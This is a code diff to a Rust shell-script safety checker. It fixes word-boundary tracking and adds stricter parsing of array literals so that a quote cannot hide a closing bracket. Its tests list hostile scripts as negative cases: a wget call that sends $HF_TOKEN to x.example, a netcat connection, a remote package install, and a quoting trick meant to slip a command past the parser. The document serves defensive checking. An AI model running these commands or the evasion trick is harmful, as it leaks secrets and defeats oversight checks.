@@ -197,7 +197,8 @@ fn commands(script: &str) -> Option<Vec<Vec<String>>> {
     let mut rest = script.chars().peekable();
     while let Some(c) = rest.next() {
         let ends_command = quote.is_none() && matches!(c, '\n' | ';' | '&' | '|');
-        has_begun = !word.is_empty() || has_begun && !c.is_whitespace() && !ends_command;
+        let ends_word = ends_command || quote.is_none() && c.is_whitespace();
+        has_begun = !ends_word && (has_begun || !word.is_empty());
         match c {
             '`' => return None,
             // Arithmetic and prompts read texts again, as commands.
@@ -238,13 +239,7 @@ fn commands(script: &str) -> Option<Vec<Vec<String>>> {
                 (words, word, quote) = aside.pop()?;
             }
             // A list of words; nothing in it runs.
-            '(' if quote.is_none() && word.ends_with('=') => loop {
-                match rest.next()? {
-                    ')' => break,
-                    '`' | '(' | '$' => return None,
-                    c => word.push(if c.is_whitespace() { ' ' } else { c }),
-                }
-            },
+            '(' if quote.is_none() && word.ends_with('=') => word.push_str(&list(&mut rest)?),
             '(' if quote.is_none() => return None,
             '#' if quote.is_none() && !has_begun => while rest.next_if(|c| *c != '\n').is_some() {},
             // Overwrites what is there.
@@ -265,6 +260,21 @@ fn commands(script: &str) -> Option<Vec<Vec<String>>> {
     push(&mut words, &mut word);
     done.push(words);
     (quote.is_none() && aside.is_empty()).then_some(done)
+}
+
+/// The words of a list up to its bracket: nothing in it is computed, and no quotes hide a bracket.
+fn list(rest: &mut std::iter::Peekable<std::str::Chars>) -> Option<String> {
+    let mut text = String::new();
+    let mut quote = None;
+    loop {
+        match rest.next()? {
+            ')' if quote.is_none() => return Some(text),
+            '`' | '(' | ')' | '$' | '\\' | '#' => return None,
+            c @ ('"' | '\'') if quote.is_none() => quote = Some(c),
+            c if quote == Some(c) => quote = None,
+            c => text.push(c),
+        }
+    }
 }
 
 /// `{name}` with an ordinary operator: nothing in it is quoted, computed or expanded once more.
@@ -511,6 +521,7 @@ mod tests {
             "#!/bin/bash\necho x @ https://x.example/x.whl > r.txt; pip install -r r.txt\n",
             "#!/bin/bash\npython train.py; python -m webbrowser https://x.example\n",
             "#!/bin/bash\nwget https://x.example/$HF_TOKEN\n",
+            "#!/bin/bash\nx=( \")\" a )\nnc x.example 80\necho \"\"\npython train.py\n",
         ] {
             assert!(!is_ordinary(script), "{script}");
         }
